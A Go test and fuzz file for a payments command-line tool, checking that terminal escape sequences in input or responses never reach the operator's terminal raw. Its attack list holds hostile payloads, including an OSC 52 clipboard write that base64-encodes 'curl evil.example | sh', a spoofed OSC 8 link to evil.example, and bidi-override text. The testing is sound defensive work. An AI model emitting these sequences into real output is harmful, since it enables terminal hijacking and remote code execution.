package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/preflightpay/preflight/internal/input"
)

// terminalAttacks are strings a partner's file or an API response may hold to act on the
// terminal of the operator who checks it.
var terminalAttacks = []struct{ name, s string }{
	{"title and clear screen", "\x1b]0;PWNED\x07\x1b[2J"},
	{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\https://bank.example/\x1b]8;;\x1b\\"},
	{"C1 CSI", "\u009b2J\u009b31m"},
	{"bidi override", "Jane \u202eeoD\u2066"},
	{"DEL and NUL", "a\x7fb\x00c\rd"},
}

// rawControl returns the first character of out that a terminal would obey: a C0 control other
// than the line breaks and tabs of the writers' own layout, DEL, a C1 control, a bidirectional
// control, or a byte of invalid UTF-8.
func rawControl(out string) (string, bool) {
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			return strconv.Quote(out[i : i+1]), true
		case r < 0x20 && r != '\n' && r != '\t', r >= 0x7F && r <= 0x9F, input.BidiControl(r):
			return strconv.QuoteRune(r), true
		}
		i += size
	}
	return "", false
}

// jsonText writes s as the inside of a JSON string: C0 controls as \u escapes, everything else
// (C1 and bidirectional controls included) as the raw bytes a file would hold.
func jsonText(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == '"' || c == '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c < 0x20:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[c>>4])
			b.WriteByte("0123456789abcdef"[c&0xF])
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// csvCell quotes s as a CSV cell.
func csvCell(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

// hostileRequest places h as a member name and as the value of fields whose findings quote
// them (a currency, a clearing system, a country, a BIC, an amount, a reference).
func hostileRequest(h string) string {
	q := `"` + jsonText(h) + `"`
	return `{` + q + `:1,"payment_currency":` + q + `,"payment_amount":` + q + `,"reference":` + q +
		`,"beneficiary":{"entity_type":"individual","first_name":` + q + `,"last_name":"Doe","account_number":` + q +
		`,"swift_code":"DEUTDEFF","clearing_system":` + q + `,"address":{"country":` + q + `,"city":` + q + `}}}`
}

// TestNoControlReachesATerminal runs the commands with each attack as a member name, as
// values, as a response body, a CSV header cell, a file name, an operation, a flag and a command,
// in text and in JSON, and searches standard output and standard error for a raw control.
func TestNoControlReachesATerminal(t *testing.T) {
	for _, a := range terminalAttacks {
		h := a.s
		dir := t.TempDir()
		write := func(name, content string) string {
			p := filepath.Join(dir, name)
			if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
				t.Fatal(err)
			}
			return p
		}
		req := hostileRequest(h)
		jsonl := write("records.jsonl", req+"\n"+`{"`+jsonText(h)+`":1,"`+jsonText(h)+`":2}`+"\n"+`{"reference":"`+jsonText(h)+"\n")
		csv := write("records.csv", "beneficiary_id,payment_amount,reference,"+csvCell(h)+"\n"+"b-1,"+csvCell(h)+","+csvCell(h)+",x\n")
		csvRecords := write("values.csv", "beneficiary_id,payment_amount,payment_currency,reference\nb-1,"+csvCell(h)+","+csvCell(h)+","+csvCell(h)+"\n")
		body := `{"code":` + `"` + jsonText(h) + `","message":"` + jsonText(h) + `","` + jsonText(h) + `":1}`
		type invocation struct {
			args  []string
			stdin string
		}
		var runs []invocation
		for _, format := range []string{"text", "json"} {
			runs = append(runs,
				invocation{[]string{"check", "--op", "fiat/create-payout", "--format", format}, req},
				invocation{[]string{"check", "--op", "fiat/create-payout", "--format", format}, `{"` + jsonText(h) + `":1,"` + jsonText(h) + `":2}`},
				invocation{[]string{"check", "--op", "fiat/create-payout", "--format", format}, `{"amount":` + h + `}`},
				invocation{[]string{"check", "--op", "fiat/create-payout", "--format", format, "--facts", "-", write("request.json", req)}, `{"` + jsonText(h) + `":1}`},
				invocation{[]string{"batch", "--op", "fiat/create-payout", "--format", format, jsonl}, ""},
				invocation{[]string{"batch", "--op", "fiat/create-payout", "--format", format, csv}, ""},
				invocation{[]string{"batch", "--op", "fiat/create-payout", "--format", format, csvRecords}, ""},
				invocation{[]string{"batch", "--op", "fiat/create-payout", "--format", format, "--format", "csv", "-"}, csvCell(h) + ",payment_amount\n1,2\n"},
				invocation{[]string{"classify", "--op", "fiat/create-payout", "--status", "400", "--response-id", h, "--request-time", h, "--format", format}, body},
				invocation{[]string{"classify", "--op", "ramp/create-quote", "--status", "502", "--format", format}, "<html>" + h + "</html>"},
				invocation{[]string{"check", "--op", h, "--format", format}, "{}"},
				invocation{[]string{"check", "--op", "fiat/create-payout", "--format", format, filepath.Join(dir, h)}, ""},
			)
		}
		runs = append(runs,
			invocation{[]string{"check", "--format", h}, "{}"},
			invocation{[]string{"check", "--" + h}, "{}"},
			invocation{[]string{"webhook", "decode", "--" + h}, "{}"},
			invocation{[]string{"webhook", h}, ""},
			invocation{[]string{h}, ""},
			invocation{[]string{"help", h}, ""},
			invocation{[]string{"explain", h}, ""},
			invocation{[]string{"catalog", "--action", h}, ""},
			invocation{[]string{"requirements", "--currency", h}, ""},
			invocation{[]string{"schema", "--op", "fiat/create-payout", "--corridor", h}, ""},
			invocation{[]string{"openapi", "--product", h}, ""},
			invocation{[]string{"openapi", "--format", h}, ""},
		)
		for _, in := range runs {
			var stdout, stderr bytes.Buffer
			code := run(in.args, strings.NewReader(in.stdin), &stdout, &stderr, func(string) string { return "" })
			for _, stream := range []struct{ name, out string }{{"stdout", stdout.String()}, {"stderr", stderr.String()}} {
				if c, found := rawControl(stream.out); found {
					t.Errorf("%s: %q (exit %d): %s carries %s raw:\n%q", a.name, in.args, code, stream.name, c, stream.out)
				}
			}
		}
	}
}

// FuzzTextOutput: whatever bytes a member name and a value hold, the text report of check
// (standard output) and its standard error carry no raw control.
func FuzzTextOutput(f *testing.F) {
	for _, a := range terminalAttacks {
		f.Add(a.s, a.s)
	}
	f.Add("reference", "\xff\xfe")
	f.Fuzz(func(t *testing.T, name, value string) {
		q := `"` + jsonText(value) + `"`
		req := `{"` + jsonText(name) + `":` + q + `,"payment_currency":` + q + `,"payment_amount":` + q +
			`,"beneficiary":{"clearing_system":` + q + `,"address":{"country":` + q + `}}}`
		var stdout, stderr bytes.Buffer
		run([]string{"check", "--op", "fiat/create-payout", "--format", "text"}, strings.NewReader(req), &stdout, &stderr, func(string) string { return "" })
		for _, out := range []string{stdout.String(), stderr.String()} {
			if c, found := rawControl(out); found {
				t.Fatalf("name %q, value %q: the output carries %s raw:\n%q", name, value, c, out)
			}
		}
	})
}
